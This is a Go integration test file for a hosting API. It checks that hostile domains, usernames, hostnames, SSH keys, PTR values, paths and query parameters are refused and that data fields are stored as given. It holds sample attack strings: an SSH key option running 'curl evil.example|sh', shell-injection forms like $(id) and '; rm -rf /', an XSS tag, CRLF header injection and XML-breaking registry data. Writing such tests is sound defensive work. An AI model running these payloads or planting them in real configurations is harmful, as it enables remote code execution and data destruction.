package audit

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/idna"

	"github.com/hostplane/hostplane/pkg/api"
	"github.com/hostplane/hostplane/tests/framework"
)

// validKey is a real OpenSSH ed25519 public key (ssh-keygen -t ed25519).
const validKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEL6P6xcEx8Rin3snII2BE9kXbu6DHiO2alXqoX86AQD audit@example"

// hostileDomains are names that must never become a vhost, a certificate
// request or a file name: each is a 400 naming the field.
var hostileDomains = []string{
	"Shop.Example.com..", "shop.example.com..", "shop..example.com", ".shop.example.com", "*.example.com", "_dmarc.example.com",
	strings.Repeat("a", 64) + ".com", strings.Repeat("abcdefghi.", 26) + "com", "shop.example.com\r\nX-Injected: 1",
	"shop\".example.com", "shop'.example.com", "shop;id.example.com", "shop{}.example.com", "${IFS}.example.com", "$(id).example.com",
	"shop\x00.example.com", "%2e%2e.example.com", "../etc.example.com", "shop/x.example.com", "shop\\x.example.com",
	"shop example.com", "sh\u200bop.example.com", "shop\u3002example.com", "p\u0430ypal.com", "\u202emoc.example.com",
	"xn--.example.com", "xn--zz-.example.com", "ab--cd.example.com", "192.0.2.1", "[::1]", "localhost", "example.123",
	"-shop.example.com", "shop-.example.com", "\uff53hop.example.com",
}

// hostilePTRs are PTR targets refused the same way (PTR values reach a DNS
// zone file).
var hostilePTRs = []string{
	"Mail.example.com..", "mail..example.com", "mail.example.com..", "*.example.com", "_x.example.com", "mail example.com",
	"mail.example.com;rm", "mail\".example.com", "mail.example.com\n", "mail.example.com\r\nX: y", strings.Repeat("a", 64) + ".com",
	strings.Repeat("abcdefghi.", 26) + "com", "mail", "-mail.example.com", "m\u0430il.example.com", "mail.example.com\x00",
	"$(id).example.com", "%2e%2e.example.com", "mail.example.com. IN A 192.0.2.1",
}

// hostileHostnames are server host names (they become the guest's hostname
// through cloud-init and the libvirt domain's metadata). ASCII capitals and
// one trailing dot are not among them: since 20dc8e9 a server's hostname
// follows the one host-name rule (README), folded to its canonical form
// (httpapi TestServerHostnameInputRule), so "Web-1" left this list; a
// Kelvin sign (U+212A), which Unicode lower-cases to an ASCII k, and two
// trailing dots took its place.
var hostileHostnames = []string{
	"W\u212Aeb-1", "web-1..", "web_1", "web..1", "-web", "web-", strings.Repeat("a", 64), strings.Repeat("abcdefghi.", 26) + "com",
	"web;id", "web\n1", "web 1", "w\u00e9b", "$(id)", "{web}", "web'1", "web\"1", "web\x00", "%2e%2e", "..", ".",
}

// hostileSSHKeys are ssh_keys entries: options in front of the key
// (command="..."), a second line, NUL, and keys that only look like keys
// (the agent refuses them when it writes authorized_keys, after the order
// has been charged).
var hostileSSHKeys = []string{
	`command="curl evil.example|sh" ` + validKey,
	`no-pty,from="*" ` + validKey,
	validKey + "\nssh-rsa AAAAB3NzaC1yc2E",
	validKey + "\r\ncommand=\"id\" " + validKey,
	validKey + "\x00",
	"ssh-ed25519",
	"ssh-ed25519 AAAA",
	"ssh-ed25519 not*base64!! x@y",
	"ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIEL6P6xcEx8Rin3snII2BE9kXbu6DHiO2alXqoX86AQD type-mismatch",
	"ssh-dss AAAAB3NzaC1kc3MAAACBAP1",
	"sk-x",
	"ecdsa-sha2-nistp256 $(id)",
}

// hostileUsernames become a system user, a home directory and a PHP-FPM
// pool: a 400 naming username.
var hostileUsernames = []string{
	"Root", "root", "www", "ab", strings.Repeat("a", 17), "shop;id", "../x", "shop\n", "1shop", "shop-a", "shop_a", "sh op",
	"\u00fcser", "shop$", "shop\x00", "shop.a", "%2e%2e",
}

// hostilePHP are php_version values (a PHP-FPM binary and socket path).
var hostilePHP = []string{"8.2;id", "8.2\n", "../8.2", "8", "8.2.1", "10.0", "8.2 ", " 8.2", "${IFS}", "8.2/../../x", "8.2\x00", "８.2", "4.4"}

// TestHostileInputOutsideIn sends, as a customer's client would, hostile
// strings into every field that ends up in configuration (a hosting
// account's domain, username and PHP version, a custom domain, a server's
// host name and SSH keys, a reinstall's SSH keys, a PTR name): each is a 400
// whose message names the field, through a follower, and afterwards GETs show
// nothing changed and the account was charged nothing. Fields that are only
// data (a server label set with PATCH, a webhook description) keep shell,
// template and markup characters verbatim; control characters there are a
// 400 too, and an order's label follows the PATCH label's rule.
func TestHostileInputOutsideIn(t *testing.T) {
	r := newRig(t)
	if _, err := r.c.AnyAlive(nil).Admin().CreateIPPool(r.ctx, api.IPPoolCreateRequest{Name: "pub4", CIDR: "198.51.100.0/24", Gateway: "198.51.100.1"}); err != nil {
		t.Fatal(err)
	}
	r.c.Credit(r.ctx, r.accA.ID, serverPrice+hostingPrice+domainPrice+5000)
	own := r.buy()
	if own.serverIP == "192.0.2.10" {
		t.Fatalf("A's server got no address from the pool")
	}
	f := r.follower()
	before := r.charged(r.keyA)
	get := func(path string) string {
		t.Helper()
		rep := r.call(0, r.keyA, "GET", path, nil, nil)
		if rep.Status != 200 && rep.Status != 404 {
			t.Fatalf("%s", rep)
		}
		if rep.Status == 404 {
			return "404 " + rep.Code()
		}
		return string(rep.Body)
	}
	views := []string{"/v1/servers/" + own.server, "/v1/servers/" + own.server + "/ips", "/v1/hosting/" + own.hosting,
		"/v1/hosting/" + own.hosting + "/custom-domain", "/v1/webhooks/" + own.webhook}
	snapshot := func() map[string]string {
		m := map[string]string{}
		for _, v := range views {
			m[v] = get(v)
		}
		return m
	}
	seen := snapshot()
	// accountUnchanged: what was done (refused bodies, …) left A's charges
	// as they were; viewsUnchanged: and every view but skip reads as before.
	accountUnchanged := func(t *testing.T, what string) {
		t.Helper()
		if after := r.charged(r.keyA); after != before {
			t.Errorf("%s changed A's account: %+v → %+v", what, before, after)
		}
	}
	viewsUnchanged := func(t *testing.T, what string, skip ...string) {
		t.Helper()
		accountUnchanged(t, what)
		for v, was := range seen {
			if slices.Contains(skip, v) {
				continue
			}
			if now := get(v); now != was {
				t.Errorf("GET %s changed after %s:\n was %.400s\n now %.400s", v, what, was, now)
			}
		}
	}

	refused := func(t *testing.T, method, path, field string, body any) {
		t.Helper()
		rep := r.call(f, r.keyA, method, path, body, nil)
		if rep.Status != 400 || !strings.Contains(rep.DecodeError(t).Message, `"`+field+`"`) {
			b, _ := json.Marshal(body)
			t.Errorf("%s %s %s: %d %.300s; want 400 naming %q", method, path, b, rep.Status, rep.Body, field)
		}
	}

	// with is body b with one field set to v.
	with := func(b map[string]any, field string, v any) map[string]any {
		b[field] = v
		return b
	}
	t.Run("config strings are refused", func(t *testing.T) {
		for _, d := range hostileDomains {
			refused(t, "POST", "/v1/hosting", "domain", with(hostingBody("shopz"), "domain", d))
			refused(t, "PUT", "/v1/hosting/"+own.hosting+"/custom-domain", "domain", map[string]any{"domain": d})
		}
		for _, u := range hostileUsernames {
			refused(t, "POST", "/v1/hosting", "username", with(hostingBody("shopz"), "username", u))
		}
		for _, p := range hostilePHP {
			refused(t, "POST", "/v1/hosting", "php_version", with(hostingBody("shopz"), "php_version", p))
			refused(t, "PUT", "/v1/hosting/"+own.hosting+"/php", "php_version", map[string]any{"php_version": p})
		}
		for _, h := range hostileHostnames {
			refused(t, "POST", "/v1/servers", "hostname", with(serverBody("web-9"), "hostname", h))
		}
		for _, k := range hostileSSHKeys {
			refused(t, "POST", "/v1/servers", "ssh_keys[1]", with(serverBody("web-9"), "ssh_keys", []string{validKey, k}))
			refused(t, "POST", "/v1/servers/"+own.server+"/reinstall", "ssh_keys[0]", map[string]any{"osTemplate": "base", "ssh_keys": []string{k}})
		}
		for _, p := range hostilePTRs {
			refused(t, "PUT", "/v1/servers/"+own.server+"/ips/"+own.serverIP+"/ptr", "hostname", map[string]any{"hostname": p})
		}
		// An order's label follows the rule of PATCH /v1/servers/:id/label:
		// printable characters only (no line breaks, C1 controls or
		// bidirectional overrides that rewrite how a listing reads).
		for _, l := range []string{"web\r\n1", "web\n1", "web\u0085x", "web\u009b31m", "\u202egnp.exe", "web\u200b1"} {
			refused(t, "POST", "/v1/servers", "label", with(serverBody("web-9"), "label", l))
			refused(t, "PATCH", "/v1/servers/"+own.server+"/label", "label", map[string]any{"label": l})
		}
		for _, d := range []string{"a\x00b", "a\x1b[31mb", "a\x7fb"} {
			refused(t, "PATCH", "/v1/webhooks/"+own.webhook, "description", map[string]any{"description": d})
		}
		viewsUnchanged(t, "refused bodies")
	})

	t.Run("a name given twice or in another case", func(t *testing.T) {
		// encoding/json keeps the last of two names and matches names
		// case-insensitively, so such a body means one thing to a proxy or
		// a log in front (the first "years", no "HOSTNAME") and another to
		// the coordinator: refused, naming the member, through a follower.
		with := func(body map[string]any, member string) string {
			b, _ := json.Marshal(body)
			return "{" + member + "," + string(b[1:])
		}
		ct := map[string]string{"Content-Type": "application/json"}
		for _, p := range []struct{ method, path, body, want string }{
			{"POST", "/v1/servers", with(serverBody("web-9"), `"hostname":"evil"`), `field "hostname" is given more than once`},
			{"POST", "/v1/servers", with(serverBody("web-9"), `"PLAN_SLUG":"vps-a"`), `unknown field "PLAN_SLUG"`},
			{"POST", "/v1/domains", with(domainBody("twice-audit.test"), `"years":10`), `field "years" is given more than once`},
			{"POST", "/v1/hosting", with(hostingBody("twice"), `"Username":"root"`), `unknown field "Username"`},
			{"PATCH", "/v1/webhooks/" + own.webhook, `{"description":"a","description":"b"}`, `field "description" is given more than once`},
			{"POST", "/v1/tickets", `{"subject":"s","message":"m","Message":"n"}`, `unknown field "Message"`},
		} {
			rep := r.call(f, r.keyA, p.method, p.path, p.body, ct)
			if rep.Status != 400 || !strings.Contains(rep.DecodeError(t).Message, p.want) {
				t.Errorf("%s %s %s: %s, want 400 with %s", p.method, p.path, p.body, rep, p.want)
			}
		}
		viewsUnchanged(t, "refused bodies")
	})

	t.Run("data strings are kept verbatim", func(t *testing.T) {
		// patched: PATCH patch with {field: v} answered 200, then GET get
		// decoded into out.
		patched := func(patch, get, field, v string, out any) bool {
			t.Helper()
			if rep := r.call(f, r.keyA, "PATCH", patch, map[string]any{field: v}, nil); rep.Status != 200 {
				t.Errorf("%s %q: %s", field, v, rep)
				return false
			}
			r.call(0, r.keyA, "GET", get, nil, nil).Decode(t, out)
			return true
		}
		for _, s := range []string{`"; rm -rf / #`, "$(id) ${IFS} `id`", "{{.Secret}} {% x %} <script>alert(1)</script>", "ünïcödé – 日本 🚀", `C:\x\..\..`, "%2e%2e/%00"} {
			var sv api.Server
			if !patched("/v1/servers/"+own.server+"/label", "/v1/servers/"+own.server, "label", s, &sv) {
				continue
			}
			if sv.Label != s {
				t.Errorf("label %q read back as %q", s, sv.Label)
			}
			d := s + "\nsecond line\ttab"
			var wh api.Webhook
			if !patched("/v1/webhooks/"+own.webhook, "/v1/webhooks/"+own.webhook, "description", d, &wh) {
				continue
			}
			if wh.Description != d {
				t.Errorf("description %q read back as %q", d, wh.Description)
			}
		}
		accountUnchanged(t, "label and description edits")
	})

	t.Run("paging and amounts", func(t *testing.T) {
		for _, list := range []string{"/v1/billing/invoices", "/v1/billing/wallet/transactions"} {
			for _, q := range []string{"page=9223372036854775807&limit=200", "page=1000001", "limit=1e2", "limit=0x10", "limit=%00", "limit=5%20", "page=1.5",
				"page=" + strings.Repeat("9", 400)} {
				rep := r.call(f, r.keyA, "GET", list+"?"+q, nil, nil)
				param, _, _ := strings.Cut(q, "=")
				if rep.Status != 400 || !strings.Contains(string(rep.Body), param) {
					t.Errorf("GET %s?%s: %d %.300s, want 400 naming %s", list, q, rep.Status, rep.Body, param)
				}
			}
			// These lists also walk by cursor since 723d3f4 (before, d985afd
			// refused a cursor as unknown, since ignoring it had served page
			// 1 for ever). A's invoice as B's cursor is only a position in
			// B's own invoices (B has none): never a page of A's. On the
			// transactions list an invoice id is no cursor: a 400 naming it.
			rep := r.call(f, r.keyB, "GET", list+"?cursor="+own.invoice, nil, nil)
			var pg struct {
				Data  []json.RawMessage `json:"data"`
				Total int               `json:"total"`
			}
			switch {
			case strings.Contains(string(rep.Body), own.invoice[4:]):
				t.Errorf("B's GET %s?cursor=<A's invoice>: %s, shows A's invoice", list, rep)
			case list == "/v1/billing/invoices" && (rep.Status != 200 || json.Unmarshal(rep.Body, &pg) != nil || len(pg.Data) != 0 || pg.Total != 0):
				t.Errorf("B's GET %s?cursor=<A's invoice>: %s, want 200 with none of B's (B has none)", list, rep)
			case list != "/v1/billing/invoices" && (rep.Status != 400 || !strings.Contains(string(rep.Body), `\"cursor\"`)):
				t.Errorf("B's GET %s?cursor=<A's invoice>: %s, want 400 naming cursor", list, rep)
			}
		}
		// Domain years multiply a price: out of range is a 400 naming years,
		// never an overflowed (negative) charge.
		for _, y := range []string{"-1", "11", "100", "2147483648", "9223372036854775807", "18446744073709551616", "1.5", "\"1\"", "1e1"} {
			b, _ := json.Marshal(domainBody("years-audit.test"))
			body := strings.Replace(string(b), `"years":1`, `"years":`+y, 1)
			if body == string(b) {
				t.Fatalf("no years in %s", b)
			}
			for _, path := range []string{"/v1/domains", "/v1/domains/quote"} {
				rep := r.call(f, r.keyA, "POST", path, body, map[string]string{"Content-Type": "application/json"})
				if rep.Status != 400 || !strings.Contains(string(rep.Body), "years") {
					t.Errorf("POST %s years=%s: %s, want 400 naming years", path, y, rep)
				}
			}
		}
		accountUnchanged(t, "paging and years probes")
	})

	t.Run("headers on every answer", func(t *testing.T) {
		hc := &http.Client{Timeout: 30 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		limited := r.keyOfA(t, api.KeyCreateRequest{Scopes: []string{"account:read"}, RateLimitPerMin: 2})
		type probe struct {
			method, path, key, body string
			status                  int
			allow                   string
			noStore                 bool
		}
		big := strings.Repeat("x", 2<<20)
		probes := []probe{
			{"GET", "/nope", "", "", 404, "", false},
			{"GET", "/v1/nope", r.keyA, "", 404, "", true},
			{"GET", "/v1/nope", "", "", 404, "", true},
			{"DELETE", "/v1/billing/wallet", r.keyA, "", 405, "GET", true},
			{"PUT", "/v1/account", r.keyA, "{}", 405, "GET", true},
			{"POST", "/v1/billing/invoices/" + own.invoice, r.keyA, "{}", 405, "GET", true},
			{"GET", "/v1/account", "", "", 401, "", true},
			{"GET", "/v1/account", "snc_not-a-key", "", 401, "", true},
			{"GET", "/v1/servers", limited, "", 403, "", true},
			{"POST", "/v1/tickets", r.keyA, `{"subject":"x","message":"` + big + `"}`, 413, "", true},
			{"GET", "/v1/billing/wallet", r.keyA, "", 200, "", true},
			{"POST", "/v1/servers/" + own.server + "/password-reset", r.keyA, "{}", 0, "", true},
			{"POST", "/v1/servers/" + own.server + "/console", r.keyA, "{}", 0, "", true},
			{"POST", "/v1/account/api-keys", r.keyA, `{"name":"hdr","scopes":["account:read"]}`, 0, "", true},
		}
		for i := 0; i < 4; i++ {
			probes = append(probes, probe{"GET", "/v1/account", limited, "", 0, "", true})
		}
		saw429 := false
		for _, p := range probes {
			for _, i := range []int{f, (f + 1) % 3} {
				req, err := http.NewRequestWithContext(r.ctx, p.method, r.c.URL(i)+p.path, strings.NewReader(p.body))
				if err != nil {
					t.Fatal(err)
				}
				if p.key != "" {
					req.Header.Set("Authorization", "Bearer "+p.key)
				}
				if p.body != "" {
					req.Header.Set("Content-Type", "application/json")
				}
				resp, err := hc.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				_, _ = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				h := resp.Header
				what := fmt.Sprintf("%s %s on coordinator %d → %d", p.method, p.path, i, resp.StatusCode)
				if resp.StatusCode == 429 {
					saw429 = true
				}
				if p.status != 0 && resp.StatusCode != p.status {
					t.Errorf("%s, want %d", what, p.status)
				}
				if h.Get("X-Request-Id") == "" || h.Get("X-Content-Type-Options") != "nosniff" {
					t.Errorf("%s: X-Request-Id %q, X-Content-Type-Options %q", what, h.Get("X-Request-Id"), h.Get("X-Content-Type-Options"))
				}
				if p.allow != "" && !strings.Contains(h.Get("Allow"), p.allow) {
					t.Errorf("%s: Allow %q, want it to list %s", what, h.Get("Allow"), p.allow)
				}
				if p.noStore && !strings.Contains(h.Get("Cache-Control"), "no-store") {
					t.Errorf("%s: Cache-Control %q, want no-store", what, h.Get("Cache-Control"))
				}
			}
		}
		if !saw429 {
			t.Errorf("a key limited to 2 a minute was never answered 429 in 8 calls")
		}
	})

	t.Run("hostile path segments", func(t *testing.T) {
		// Ids, IPs, snapshot, delivery and power-action segments that are not
		// what the route names are 404s (400 for a bad action at most), never
		// a 5xx, with the headers every answer carries; nothing changes.
		hc := &http.Client{Timeout: 30 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		srv := "/v1/servers/" + own.server
		paths := []struct{ method, path string }{
			{"GET", "/v1/servers/" + own.server + "%00"}, {"GET", "/v1/servers/" + strings.Repeat("s", 4000)},
			{"GET", "/v1/servers/..%2fbilling%2fwallet"}, {"GET", "/v1/servers/%2e%2e"}, {"GET", "/v1/servers/" + strings.ToUpper(own.server)},
			{"GET", "/v1/servers/" + own.server + "%20"}, {"GET", "/v1/servers/%E2%80%AE" + own.server}, {"GET", "/v1/servers/%ff%fe"},
			{"POST", srv + "/power/..%2f..%2freinstall"}, {"POST", srv + "/power/Reboot"}, {"POST", srv + "/power/reboot%0a"}, {"POST", srv + "/power/%24(id)"},
			{"PUT", srv + "/ips/198.51.100.2%2f24/ptr"}, {"PUT", srv + "/ips/0198.051.100.002/ptr"}, {"PUT", srv + "/ips/::ffff:" + own.serverIP + "/ptr"},
			{"PUT", srv + "/ips/" + own.serverIP + "%25eth0/ptr"}, {"DELETE", srv + "/snapshots/..%2f..%2f"}, {"DELETE", srv + "/snapshots/snap_" + strings.Repeat("0", 300)},
			{"POST", "/v1/webhooks/" + own.webhook + "/deliveries/%2e%2e/redeliver"}, {"DELETE", "/v1/account/api-keys/%2e%2e"},
			{"GET", "/v1/billing/invoices/" + own.invoice + ";x"}, {"GET", "/v1/hosting/" + own.hosting + "%2f..%2f" + own.hosting},
		}
		for _, p := range paths {
			for _, i := range []int{f, (f + 1) % 3} {
				req, err := http.NewRequestWithContext(r.ctx, p.method, r.c.URL(i)+p.path, strings.NewReader(`{"hostname":"mail.example.com"}`))
				if err != nil {
					t.Fatal(err)
				}
				req.Header.Set("Authorization", "Bearer "+r.keyA)
				req.Header.Set("Content-Type", "application/json")
				resp, body := framework.Fetch(t, hc, req)
				what := fmt.Sprintf("%s %.80s on coordinator %d → %d %.200s", p.method, p.path, i, resp.StatusCode, body)
				if resp.StatusCode != 404 && resp.StatusCode != 400 && resp.StatusCode != 301 && resp.StatusCode != 307 {
					t.Errorf("%s, want 404 (or 400)", what)
				}
				if resp.Header.Get("X-Request-Id") == "" || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
					t.Errorf("%s: X-Request-Id %q, nosniff %q", what, resp.Header.Get("X-Request-Id"), resp.Header.Get("X-Content-Type-Options"))
				}
			}
		}
		// Allow lists HEAD with GET: HEAD answers as GET does, without a body.
		req, _ := http.NewRequestWithContext(r.ctx, "HEAD", r.c.URL(f)+"/v1/account", nil)
		req.Header.Set("Authorization", "Bearer "+r.keyA)
		if resp, err := hc.Do(req); err != nil || resp.StatusCode != 200 || resp.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("HEAD /v1/account: %v %v", resp, err)
		} else {
			resp.Body.Close()
		}
		// The server and the webhook were relabelled and described above.
		viewsUnchanged(t, "hostile paths", "/v1/servers/"+own.server, "/v1/webhooks/"+own.webhook)
	})

	t.Run("registry data is escaped", func(t *testing.T) {
		// A contact is data: XML metacharacters go to the registry (a real
		// EPP server parsing our XML) and the registration still completes;
		// nameservers are configuration: hostile ones are 400s naming the
		// entry and leave the domain's nameservers as they were.
		for i, ns := range []string{"ns1.example.net<x/>", "ns1.example.net&amp;", "NS1.example.net.", "ns1..example.net", "*.example.net", "ns1.example.net\n", "192.0.2.53", "ns1 example.net", "_ns.example.net", "ns1.example.net]]>"} {
			nss := []string{"ns1.example.net", ns}
			rep := r.call(f, r.keyA, "PATCH", "/v1/domains/"+own.domain, map[string]any{"nameservers": nss}, nil)
			if rep.Status != 400 || !strings.Contains(string(rep.Body), "nameservers[1]") {
				t.Errorf("nameserver %d %q: %s, want 400 naming nameservers[1]", i, ns, rep)
			}
		}
		if now := get("/v1/domains/" + own.domain); !strings.Contains(now, `"ns2.example.net"`) {
			t.Errorf("A's domain after refused nameservers: %.400s", now)
		}
		b := domainBody("xml-audit.test")
		b["contact"] = api.DomainContact{Name: `Ada </contact:name><contact:id>x</contact:id> & "Co" ]]>`, Org: `<![CDATA[x]]> &lt;`,
			Street: []string{`1 <St> & 'Sons'`, `</contact:street></contact:addr></contact:postalInfo>`}, City: "Ist&nbul", CC: "TR", Email: "ada@example.com"}
		rep := r.call(f, r.keyA, "POST", "/v1/domains", b, nil)
		if rep.Status != 201 && rep.Status != 202 {
			t.Fatalf("domain order with an XML-ish contact: %s", rep)
		}
		var d api.Domain
		rep.Decode(t, &d)
		framework.WaitFor(t, "xml-audit.test registered", 30*time.Second, 100*time.Millisecond, func() bool {
			var now api.Domain
			r.call(0, r.keyA, "GET", "/v1/domains/"+d.ID, nil, nil).Decode(t, &now)
			if now.Status != api.DomainActive && now.Status != api.DomainRegistering {
				t.Fatalf("xml-audit.test: %+v (the registry refused what it was sent)", now)
			}
			return now.Status == api.DomainActive
		})
	})

	t.Run("no node name in a customer's answers", func(t *testing.T) {
		// SPEC: a customer's views are backbone-scrubbed, no node name; the
		// refusals of an order are customer answers too.
		const node = "audit-node-1"
		before := r.charged(r.keyA)
		b := hostingBody("phpaudit")
		b["php_version"] = "9.9"
		probes := []framework.Reply{
			r.call(f, r.keyA, "POST", "/v1/hosting", b, nil),
			r.call(f, r.keyA, "POST", "/v1/hosting/quote", b, nil),
			r.call(f, r.keyA, "PUT", "/v1/hosting/"+own.hosting+"/php", map[string]any{"php_version": "9.9"}, nil),
			r.call(f, r.keyA, "POST", "/v1/servers", map[string]any{"plan_slug": "vps-a", "label": "x", "hostname": "x", "os_template": "nosuchtemplate"}, nil),
			r.call(0, r.keyA, "GET", "/v1/servers/"+own.server, nil, nil),
			r.call(0, r.keyA, "GET", "/v1/hosting/"+own.hosting, nil, nil),
			r.call(0, r.keyA, "GET", "/v1/actions/"+own.action, nil, nil),
		}
		// With the only node cordoned, orders are 409 no_capacity: the
		// customer is told so, not which node refused and why.
		adm := r.c.AnyAlive(nil).Admin()
		if _, err := adm.CordonNode(r.ctx, node); err != nil {
			t.Fatal(err)
		}
		for _, rep := range []framework.Reply{r.call(f, r.keyA, "POST", "/v1/hosting", hostingBody("cordonaudit"), nil), r.call(f, r.keyA, "POST", "/v1/servers", serverBody("cordon-1"), nil)} {
			if rep.Status != 409 || rep.Code() != "no_capacity" {
				t.Errorf("%s: want 409 no_capacity with the node cordoned", rep)
			}
			probes = append(probes, rep)
		}
		if _, err := adm.UncordonNode(r.ctx, node); err != nil {
			t.Fatal(err)
		}
		for _, rep := range probes {
			if strings.Contains(string(rep.Body), node) {
				t.Errorf("%s: a customer's answer names the node", rep)
			}
			if rep.Status == 201 {
				t.Errorf("%s: accepted", rep)
			}
		}
		if after := r.charged(r.keyA); after != before {
			t.Errorf("refused orders changed A's account: %+v → %+v", before, after)
		}
	})

	t.Run("one domain in every form is one domain", func(t *testing.T) {
		// A's second hosting account on an internationalised name; the same
		// name as its A-label (what nginx's server_name and the certificate
		// would hold) is taken for B's order and for A's custom domain: a 409
		// naming domain, checked before B's empty wallet (402).
		const uname = "b\u00fccher-audit.example.com"
		u := "bücher-audit.example.com"
		ascii, err := idna.Lookup.ToASCII(u)
		if err != nil || !strings.HasPrefix(ascii, "xn--") {
			t.Fatalf("ToASCII(%q) = %q, %v", u, ascii, err)
		}
		b := hostingBody("buecher")
		b["domain"] = u
		rep := r.write(f, r.keyA, "POST", "/v1/hosting", b)
		if rep.Status != 201 {
			t.Fatalf("A's hosting on %s: %s", uname, rep)
		}
		if !strings.Contains(string(rep.Body), ascii) {
			t.Errorf("A's hosting on %s does not show its A-label %s: %s", uname, ascii, rep)
		}
		for _, d := range []string{ascii, u} {
			bb := hostingBody("bobuser")
			bb["domain"] = d
			rep := r.call(f, r.keyB, "POST", "/v1/hosting", bb, nil)
			if rep.Status != 409 || !strings.Contains(string(rep.Body), "domain") {
				t.Errorf("B's hosting order on A's %q: %s, want 409 naming domain", d, rep)
			}
			rep = r.call(f, r.keyA, "PUT", "/v1/hosting/"+own.hosting+"/custom-domain", map[string]any{"domain": d}, nil)
			if rep.Status != 409 || !strings.Contains(string(rep.Body), "domain") {
				t.Errorf("A's custom domain %q, served by A's other hosting: %s, want 409 naming domain", d, rep)
			}
		}
		rep = r.call(f, r.keyA, "PUT", "/v1/hosting/"+own.hosting+"/custom-domain", map[string]any{"domain": "shopa.example.com"}, nil)
		if rep.Status != 409 {
			t.Errorf("A's custom domain set to its hosting's own domain: %s, want 409", rep)
		}
		if now := get("/v1/hosting/" + own.hosting + "/custom-domain"); now != seen["/v1/hosting/"+own.hosting+"/custom-domain"] {
			t.Errorf("A's custom domain after refused attaches: %.300s", now)
		}
		if bc := r.charged(r.keyB); bc != (charged{}) {
			t.Errorf("B's refused orders left %+v", bc)
		}
	})
}
